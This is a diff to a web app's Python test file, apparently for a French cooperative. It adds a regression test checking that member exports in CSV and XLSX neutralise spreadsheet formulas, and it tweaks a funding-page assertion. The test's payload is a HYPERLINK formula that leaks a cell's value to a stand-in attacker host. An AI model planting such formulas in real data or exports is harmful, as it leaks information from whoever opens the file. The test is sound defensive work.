@@ -315,6 +315,24 @@ def test_the_exports_open_as_csv_and_xlsx(client, coordinator):
     assert client.get("/equipe/cooperative/export/members.pdf").status_code == 404
 
 
+PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
+
+
+def test_an_organisation_named_as_a_formula_is_exported_as_text(client, coordinator):
+    """Security review, finding 3: an applicant's organisation name is no live formula in
+    the coordinator's members.csv and members.xlsx."""
+    member(PAYLOAD, status="applicant", college_code=None)
+    members_csv = client.get("/equipe/cooperative/export/members.csv")
+    rows = list(csv.reader(io.StringIO(members_csv.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][1] == "'" + PAYLOAD
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@"))]
+    book = load_workbook(io.BytesIO(client.get("/equipe/cooperative/export/members.xlsx").content))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert [cell.value for cell in cells if cell.data_type == "f"] == []
+    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
+    assert book.active["B2"].value == "'" + PAYLOAD
+
+
 # --- The funding mix ---------------------------------------------------------------------------------
 
 
@@ -333,6 +351,7 @@ def test_the_funding_mix_page_adds_up_to_100(client):
     text = page.content.decode()
     assert 'data-testid="shares-total">100,0 %' in text
     assert "Ressources propres : bénévolat valorisé" in text
-    assert 'style="width: ' in text and "," not in text.split('style="width: ')[1][:6]
+    assert '<svg class="members-mix-own" width="' in text
+    assert "," not in text.split('<svg class="members-mix-own" width="')[1][:6]
     empty = client.get("/cooperative/financement/", {"annee": 2001})
     assert "Aucune ressource n'est enregistrée pour 2001." in empty.content.decode()
